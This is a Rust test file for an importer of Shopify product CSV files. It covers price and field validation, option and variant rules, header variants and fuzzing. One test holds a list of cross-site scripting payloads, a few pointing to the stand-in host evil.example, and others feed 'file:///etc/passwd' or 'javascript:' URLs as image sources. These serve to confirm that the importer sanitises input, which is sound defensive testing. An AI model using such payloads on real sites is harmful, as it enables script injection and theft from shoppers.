use super::*;
use proptest::prelude::*;
use uuid::Uuid;

const FIXTURE: &str = include_str!("../../../tests/integration/fixtures/shopify.csv");
const HEADER: &str = "Handle,Title,Body (HTML),Published,Status,Option1 Name,Option1 Value,Option2 Name,Option2 Value,Variant SKU,Variant Grams,Variant Inventory Qty,Variant Price,Variant Compare At Price,Variant Barcode,Image Src,Image Position,Image Alt Text,Unit Price Total Measure,Unit Price Total Measure Unit";

fn seller() -> SellerId {
    SellerId(Uuid::from_u128(1))
}

fn groups(file: &str) -> anyhow::Result<Vec<Group>> {
    let mut products = Products::open(file.as_bytes(), seller(), Currency::Usd)?;
    let mut groups = Vec::new();
    while let Some(group) = products.next()? {
        groups.push(group);
    }
    Ok(groups)
}

fn fixture() -> String {
    FIXTURE.replace("{pictures}", "http://cdn.example.org")
}

fn errors(groups: &[Group]) -> Vec<String> {
    groups.iter().flat_map(|group| &group.errors).map(ToString::to_string).collect()
}

/// A file of rows that are written as column and cell; all cells are quoted.
fn file(rows: &[&[(&str, &str)]]) -> String {
    let columns: Vec<&str> = HEADER.split(',').collect();
    let mut text = format!("{HEADER}\n");
    for row in rows {
        assert!(row.iter().all(|(column, _)| columns.contains(column)), "{row:?}");
        let cell = |column: &&str| row.iter().rev().find(|(name, _)| name == column).map_or("", |(_, cell)| cell).replace('"', "\"\"");
        let cells: Vec<String> = columns.iter().map(|column| format!("\"{}\"", cell(column))).collect();
        text.push_str(&format!("{}\n", cells.join(",")));
    }
    text
}

const BOWL: [(&str, &str); 3] = [("Handle", "bowl"), ("Title", "Bowl"), ("Variant Price", "20.00")];

/// One product of one row, which differs from a good one in these cells.
fn bowl(changes: &[(&str, &str)]) -> Group {
    let row = [&BOWL, changes].concat();
    let mut groups = groups(&file(&[&row])).unwrap();
    assert_eq!(groups.len(), 1);
    groups.remove(0)
}

fn taken(changes: &[(&str, &str)]) -> Product {
    let group = bowl(changes);
    assert_eq!(group.errors, []);
    group.product.unwrap()
}

fn refusal(changes: &[(&str, &str)]) -> String {
    let group = bowl(changes);
    assert_eq!((group.product, group.rows, group.rows_refused), (None, 1, 1), "{changes:?}");
    assert_eq!(group.errors.len(), 1);
    group.errors[0].to_string()
}

#[test]
fn a_file_with_every_oddity_becomes_products_and_named_errors() {
    let groups = groups(&fixture()).unwrap();
    let mug = groups[0].product.as_ref().unwrap();
    assert_eq!((mug.handle.as_str(), mug.title.as_str(), mug.is_offered, mug.is_whole), ("dawn-mug", "Dawn Mug", Some(true), true));
    assert_eq!(mug.description_html.as_deref(), Some("<p>Thrown by hand.</p>\n<p>A \"small\" one,\nfor two.</p>"));
    assert_eq!(mug.categories, ["Mugs", "Tableware", "Kitchen & Dining", "Home & Garden"]);
    assert_eq!(mug.option_names, ["Glaze", "Size"]);
    let [oat, moss] = mug.variants.as_slice() else { panic!("{:?}", mug.variants) };
    assert_eq!(
        (oat.sku.as_str(), oat.amount, oat.compare_at, oat.weight_grams, oat.quantity),
        ("DM-OAT", 3_400, Some(4_000), Some(350), 14)
    );
    assert_eq!(oat.barcode.as_deref(), Some("0123456789012"));
    assert_eq!((moss.amount, moss.compare_at, moss.weight_grams, moss.position), (3_400, None, Some(351), 1));
    assert!(moss.sku.starts_with("dawn-mug-") && moss.options["Glaze"] == "Moss");
    let pictures: Vec<_> = mug.pictures.iter().map(|picture| (picture.url.path(), picture.alt.as_deref(), picture.skus.len())).collect();
    assert_eq!(pictures, [("/moss.png", None, 1), ("/oat.png", Some("An oat mug."), 0), ("/gone.png", None, 0)]);
    let shirt = groups[1].product.as_ref().unwrap();
    assert_eq!((shirt.title.as_str(), shirt.is_offered, shirt.option_names.len()), ("Linen Shirt", Some(false), 0));
    assert_eq!(shirt.description_html.as_deref(), Some("Plain &amp; simple"));
    let teapot = groups[3].product.as_ref().unwrap();
    assert_eq!((teapot.variants.len(), teapot.is_whole), (1, false));
    assert_eq!(groups[5].product.as_ref().unwrap().is_offered, Some(false), "a voucher is not sold");
    assert_eq!(
        groups.iter().map(|group| (group.rows, group.rows_refused)).fold((0, 0), |sum, rows| (sum.0 + rows.0, sum.1 + rows.1)),
        (13, 7)
    );
    assert_eq!(
        errors(&groups),
        [
            "line 9: Title: is missing",
            "line 12: Variant Price: \"abc\" is not an amount",
            "line 13: Option1 Value: the same options stand in line 11 already",
            "line 14: Variant SKU: \"DM-OAT\" stands in line 2 already",
            "line 15: Image Src: \"ftp://files.example.org/stool.png\" is not an http or https address",
            "line 17: the row has 2 cells where the header has 29",
        ]
    );
}

#[test]
fn a_row_of_absurdities_is_refused_with_what_is_wrong() {
    let long = "x".repeat(70_000);
    let cases: &[(&str, &str, &str)] = &[
        ("Variant Price", "", "is missing"),
        ("Variant Price", "-5", "\"-5\" is not from 0 to $999,999.99"),
        ("Variant Price", "1000000", "\"1000000\" is not from 0 to $999,999.99"),
        ("Variant Price", "99999999999999999999", "\"99999999999999999999\" is too large an amount"),
        ("Variant Price", "9.999", "\"9.999\" has more decimals than USD has"),
        ("Variant Price", "1e3", "\"1e3\" is not an amount"),
        ("Variant Price", "19,99", "\"19,99\" is not an amount"),
        ("Variant Price", "$19.99", "\"$19.99\" is not an amount"),
        ("Variant Price", "NaN", "\"NaN\" is not an amount"),
        ("Variant Compare At Price", "cheap", "\"cheap\" is not an amount"),
        ("Variant Grams", "-1", "\"-1\" is not a weight from 0 to 1000000 grams"),
        ("Variant Grams", "1e9", "\"1e9\" is not a weight from 0 to 1000000 grams"),
        ("Variant Inventory Qty", "-3.5", "\"-3.5\" is not a whole number from 0 to 1000000"),
        ("Variant Inventory Qty", "1.5", "\"1.5\" is not a whole number from 0 to 1000000"),
        ("Variant Inventory Qty", "99999999999", "\"99999999999\" is not a whole number from 0 to 1000000"),
        ("Variant SKU", &long[..65], "is longer than 64 characters"),
        ("Variant Barcode", &long[..65], "is longer than 64 characters"),
        ("Title", "", "is missing"),
        ("Title", &long[..201], "is longer than 200 characters"),
        ("Title", "\u{1b}[31mred", "\"\\u{1b}[31mred\" holds control characters"),
        ("Handle", &long[..256], "is longer than 255 characters"),
        ("Handle", " ", "is missing"),
        ("Body (HTML)", &long, "is longer than 65536 bytes"),
        ("Published", "perhaps", "\"perhaps\" is neither true nor false"),
        ("Status", "sold", "\"sold\" is none of active, draft, archived and unlisted"),
        ("Option1 Value", "Sand", "is missing"),
        ("Image Src", "javascript:alert(1)", "\"javascript:alert(1)\" is not an http or https address"),
        ("Image Src", "file:///etc/passwd", "\"file:///etc/passwd\" is not an http or https address"),
        ("Image Src", "bowl.jpg", "\"bowl.jpg\" is not an http or https address"),
    ];
    for (column, cell, reason) in cases {
        let named = if *column == "Option1 Value" { "Option1 Name" } else { column };
        assert_eq!(refusal(&[(column, cell)]), format!("line 2: {named}: {reason}"));
    }
    let position = [("Image Src", "http://a.example/b.png"), ("Image Position", "first")];
    assert_eq!(refusal(&position), "line 2: Image Position: \"first\" is not a whole number from 0 to 2147483647");
    let twice = [("Option1 Name", "Size"), ("Option1 Value", "S"), ("Option2 Name", "size"), ("Option2 Value", "L")];
    assert_eq!(refusal(&twice), "line 2: Option2 Name: \"size\" names two options");
}

#[test]
fn what_a_cell_may_be_is_read_with_patience() {
    assert_eq!(taken(&[("Variant Compare At Price", "19.99")]).variants[0].compare_at, None, "a lower former price is none");
    assert_eq!(taken(&[("Variant Grams", "453.59")]).variants[0].weight_grams, Some(454));
    assert_eq!(taken(&[]).variants[0].weight_grams, None);
    let measure = |total, unit| {
        let product = taken(&[("Unit Price Total Measure", total), ("Unit Price Total Measure Unit", unit)]);
        product.variants[0].measure.clone()
    };
    assert_eq!(measure("250", "G").as_deref(), Some("250 g"));
    let passed_over = [("", ""), ("0", "kg"), ("8", "oz"), ("much", "g"), ("250 g", ""), ("250g", ""), ("250g", "g")];
    assert!(passed_over.iter().all(|(total, unit)| measure(total, unit).is_none()), "{passed_over:?}");
    assert_eq!(taken(&[("Variant Inventory Qty", "-3")]).variants[0].quantity, 0, "sold beyond its stock");
    assert_eq!(taken(&[("Image Src", "//a.example/b.png")]).pictures[0].url.as_str(), "https://a.example/b.png");
    assert_eq!(taken(&[("Published", "FALSE"), ("Status", "Active")]).is_offered, Some(false));
    assert_eq!(taken(&[("Status", "archived")]).is_offered, Some(false));
    assert_eq!(taken(&[]).is_offered, None);
    assert_eq!(taken(&[("Option1 Name", "Title"), ("Option1 Value", "Default Title")]).option_names, [""; 0]);
    assert_eq!(taken(&[("Option1 Name", "Title"), ("Option1 Value", "Dune")]).option_names, ["Title"]);
}

#[test]
fn a_derived_sku_is_the_same_in_every_run_and_each_variants_own() {
    let sku =
        |handle: &str, values: &[&str]| derived_sku(seller(), handle, &values.iter().map(|value| (*value).to_owned()).collect::<Vec<_>>());
    assert_eq!(sku("bowl", &["S"]), sku("bowl", &["S"]));
    let all = [sku("bowl", &[]), sku("bowl", &["S"]), sku("bowl", &["S", "L"]), sku("bowl", &["SL"]), sku("bowls", &[]), sku("日本", &[])];
    assert_eq!(all.iter().collect::<std::collections::HashSet<_>>().len(), all.len());
    assert_ne!(derived_sku(SellerId(Uuid::from_u128(2)), "bowl", &[]), sku("bowl", &[]));
    assert!(sku(&"long-".repeat(50), &[]).len() <= CODE_CHARS_MAX);
}

#[test]
fn a_later_row_must_fit_the_first() {
    let first: &[(&str, &str)] =
        &[("Handle", "bowl"), ("Title", "Bowl"), ("Option1 Name", "Size"), ("Option1 Value", "S"), ("Variant Price", "1")];
    let second = |changes: &[(&str, &str)]| {
        let row = [&[("Handle", "bowl"), ("Variant Price", "1")], changes].concat();
        let groups = groups(&file(&[first, &row])).unwrap();
        let product = groups[0].product.clone().unwrap();
        assert_eq!((product.variants.len(), product.is_whole), (1, false));
        errors(&groups).remove(0)
    };
    assert_eq!(second(&[]), "line 3: Option1 Value: is missing");
    assert_eq!(second(&[("Option1 Value", "S")]), "line 3: Option1 Value: the same options stand in line 2 already");
    assert!(second(&[("Option1 Value", "L"), ("Option2 Value", "Red")]).contains("\"Red\" is a value of no option"));
    assert!(
        second(&[("Option1 Name", "Colour"), ("Option1 Value", "Red")]).contains("is not the option of the product's first row, \"Size\"")
    );
    assert_eq!(second(&[("Variant Price", "")]), "line 3: the row has neither a variant nor a picture");
}

#[test]
fn too_many_options_variants_and_pictures_are_refused() {
    let four = "Handle,Title,Variant Price,Option1 Name,Option1 Value,Option4 Name\nbowl,Bowl,1,Size,S,Depth\n";
    assert_eq!(errors(&groups(four).unwrap()), ["line 2: Option4 Name: a product has at most 3 options"]);
    let mut many = "Handle,Title,Variant Price,Option1 Name,Option1 Value,Image Src\nbowl,Bowl,1,Size,first,\n".to_owned();
    (0..VARIANTS_MAX).for_each(|number| many.push_str(&format!("bowl,,1,,{number},\n")));
    (0..=PICTURES_MAX).for_each(|number| many.push_str(&format!("bowl,,,,,http://a.example/{number}\n")));
    let groups = groups(&many).unwrap();
    let product = groups[0].product.as_ref().unwrap();
    assert_eq!((product.variants.len(), product.pictures.len()), (VARIANTS_MAX, PICTURES_MAX));
    assert_eq!(
        errors(&groups),
        ["line 2050: Option1 Value: a product has at most 2048 variants", "line 2301: Image Src: a product has at most 250 pictures"]
    );
}

#[test]
fn a_handle_that_comes_back_later_is_refused_as_a_whole() {
    let groups = groups(&file(&[&BOWL, &[("Handle", "mug"), ("Title", "Mug"), ("Variant Price", "1")], &BOWL])).unwrap();
    assert_eq!(errors(&groups), ["line 4: Handle: \"bowl\" stands in line 2 already; a product's rows follow each other"]);
    assert_eq!(groups.iter().map(|group| group.product.is_some()).collect::<Vec<_>>(), [true, true, false]);
}

#[test]
fn of_endless_errors_the_first_are_named_and_all_counted() {
    let text = format!("Handle,Title,Variant Price\na,A,1\n{}b,B,1\n", "broken\n".repeat(5_000));
    let groups = groups(&text).unwrap();
    assert_eq!((groups.len(), groups[0].rows, groups[0].rows_refused, groups[0].errors.len()), (2, 5_001, 5_000, ERRORS_MAX + 1));
    assert!(groups.iter().all(|group| group.product.is_some()));
}

/// The row may have been a variant of the product before it or after it: neither may lose one for it.
#[test]
fn beside_a_row_that_cannot_be_read_no_product_is_whole() {
    let text = "Handle,Title,Variant Price\na,A,1\nb,B,1\nb,broken\nc,C,1\nd,D,1\n";
    let groups = groups(text).unwrap();
    let whole: Vec<bool> = groups.iter().filter_map(|group| Some(group.product.as_ref()?.is_whole)).collect();
    assert_eq!(whole, [true, false, false, true]);
    assert_eq!(errors(&groups), ["line 4: the row has 2 cells where the header has 3"]);
}

#[test]
fn a_file_that_is_another_is_refused_before_anything() {
    let refused = |text: &str| groups(text).unwrap_err().to_string();
    assert_eq!(refused(""), "the file is empty");
    assert!(refused("Name;Price\nBowl;1\n").contains("no column `Handle`, `Title`"));
    assert!(refused("Handle,Variant Price\nbowl,1\n").contains("no column `Title`"));
    assert!(refused("Handle,Title,Handle\n").contains("`Handle` twice"));
    assert!(refused("H\0a\0n\0d\0l\0e\0,\0").ends_with("in UTF-8): in line 1, the row holds a zero byte"));
}

#[test]
fn the_columns_that_may_be_missing_may_all_be_missing() {
    let groups = groups("Title,Handle\nBowl,bowl\n").unwrap();
    assert_eq!(errors(&groups), ["line 2: Variant Price: is missing"]);
}

#[test]
fn the_names_of_the_newer_template_are_read_too() {
    let text = "URL handle,Title,Description,SKU,Price,Inventory quantity,Weight value (grams),Product image URL,Published on online store\n\
        bowl,Bowl,<b>Deep</b>,B-1,12.50,4,90,https://a.example/b.png,FALSE\n";
    let product = groups(text).unwrap().remove(0).product.unwrap();
    let variant = &product.variants[0];
    assert_eq!((variant.sku.as_str(), variant.amount, variant.quantity, variant.weight_grams), ("B-1", 1_250, 4, Some(90)));
    assert_eq!((product.description_html.as_deref(), product.is_offered, product.pictures.len()), (Some("<b>Deep</b>"), Some(false), 1));
    let wrong = text.replace("12.50", "dear");
    assert_eq!(errors(&groups(&wrong).unwrap()), ["line 2: Price: \"dear\" is not an amount"]);
}

#[test]
fn the_names_of_older_files_are_read_too() {
    let text = "Handle,Title,Standard Product Type,Custom Product Type,Variant Price\nbowl,Bowl,Home & Garden > Tableware,Bowls,12.50\n";
    assert_eq!(groups(text).unwrap().remove(0).product.unwrap().categories, ["Bowls", "Tableware", "Home & Garden"]);
}

/// Whoever edits the file in a table may have filled every row.
#[test]
fn what_the_first_row_says_may_stand_in_every_row() {
    let row = |size: &'static str| [&BOWL[..], &[("Status", "active"), ("Option1 Name", "Size"), ("Option1 Value", size)]].concat();
    let groups = groups(&file(&[&row("S"), &row("L")])).unwrap();
    assert_eq!((groups.len(), errors(&groups).len(), groups[0].product.as_ref().unwrap().variants.len()), (1, 0, 2));
}

#[test]
fn three_options_are_kept_in_their_order() {
    let text = "Handle,Title,Option1 Name,Option1 Value,Option2 Name,Option2 Value,Option3 Name,Option3 Value,Variant Price\n\
        shirt,Shirt,Size,S,Colour,Oat,Cut,Wide,20\nshirt,,,S,,Oat,,Slim,20\nshirt,,,S,,Moss,,Wide,20\nshirt,,,S,,Moss,,,20\n";
    let groups = groups(text).unwrap();
    let product = groups[0].product.as_ref().unwrap();
    assert_eq!(product.option_names, ["Size", "Colour", "Cut"]);
    assert_eq!(product.variants[1].options.values().map(String::as_str).collect::<Vec<_>>(), ["Oat", "Slim", "S"]);
    assert_eq!((product.variants.len(), errors(&groups)), (3, vec!["line 5: Option3 Value: is missing".to_owned()]));
}

#[test]
fn a_description_of_nothing_but_nested_tags_is_read() {
    let deep = "<div>".repeat(DESCRIPTION_BYTES_MAX / 5);
    assert!(taken(&[("Body (HTML)", &deep)]).description_html.is_some());
    for tag in ["<b>", "<table>", "<a href=x>", "<ul><li>", "<p", "<!--", "<svg>", "<template>"] {
        assert!(taken(&[("Body (HTML)", &tag.repeat(200))]).description_html.is_some(), "{tag}");
    }
}

/// What people have written into shops so that it runs in other people's browsers.
#[test]
fn nothing_in_a_description_runs() {
    for hostile in [
        "</textarea><script>alert(1)</script>",
        "</script><script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">look</a>",
        "<a href=\" java&#115;cript:alert(1)\">look</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">look</a>",
        "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data=x></object><embed src=x>",
        "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>",
        "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1) id=cart>text</p>",
        "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example><link rel=stylesheet href=x>",
    ] {
        let safe = taken(&[("Body (HTML)", hostile)]).description_html.unwrap().to_lowercase();
        let tags: Vec<&str> = safe.split('<').skip(1).filter_map(|tag| tag.split('>').next()).collect();
        for part in ["script", "on", "style", "svg", "img", "iframe", "form", "input", "base", "meta", "link", "href=", "id="] {
            assert!(tags.iter().all(|tag| !tag.split([' ', '/']).any(|word| word.starts_with(part))), "{hostile} -> {safe}");
        }
    }
    let good = "<h2>Care</h2>\n<ul>\n<li><strong>Wash</strong> by hand &amp; dry.</li>\n</ul>";
    assert_eq!(taken(&[("Body (HTML)", good)]).description_html.as_deref(), Some(good));
    let link = taken(&[("Body (HTML)", "<a href=\"https://kiln.example/care\" target=_blank>care</a>")]).description_html;
    assert_eq!(link.as_deref(), Some("<a href=\"https://kiln.example/care\" rel=\"noopener noreferrer\">care</a>"));
}

/// Titles, options and texts of pictures are shown as text: they are kept as they are written.
#[test]
fn markup_outside_of_the_description_is_only_text() {
    let hostile = "</textarea><script>alert(1)</script>";
    let product = taken(&[
        ("Title", hostile),
        ("Option1 Name", "Size"),
        ("Option1 Value", hostile),
        ("Image Src", "https://a.example/b.png?\"><script>"),
        ("Image Alt Text", hostile),
    ]);
    let (variant, picture) = (&product.variants[0], &product.pictures[0]);
    assert_eq!((product.title.as_str(), variant.options["Size"].as_str(), picture.alt.as_deref()), (hostile, hostile, Some(hostile)));
    assert_eq!(picture.url.as_str(), "https://a.example/b.png?%22%3E%3Cscript%3E");
}

#[test]
fn every_beginning_of_a_file_is_read_without_harm() {
    let file = fixture();
    for end in 0..file.len() {
        let mut products = match Products::open(&file.as_bytes()[..end], seller(), Currency::Usd) {
            Ok(products) => products,
            Err(_) => continue,
        };
        while let Ok(Some(_)) = products.next() {}
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    #[test]
    fn the_order_of_the_columns_is_free(order in Just((0..29).collect::<Vec<usize>>()).prop_shuffle()) {
        let file = fixture();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(file.trim_start_matches('\u{feff}').as_bytes());
        let mut writer = csv::WriterBuilder::new().flexible(true).from_writer(Vec::new());
        for record in reader.records() {
            let record = record.unwrap();
            let cells: Vec<&str> = if record.len() == order.len() { order.iter().map(|place| &record[*place]).collect() } else { record.iter().collect() };
            writer.write_record(cells).unwrap();
        }
        let shuffled = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        prop_assert_eq!(groups(&shuffled).unwrap(), groups(&file).unwrap());
    }

    #[test]
    fn no_bytes_do_harm(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        let file = [b"Handle,Title,Variant Price,Image Src\n".as_slice(), &bytes].concat();
        let mut products = Products::open(file.as_slice(), seller(), Currency::Usd).unwrap();
        while let Ok(Some(_)) = products.next() {}
    }
}
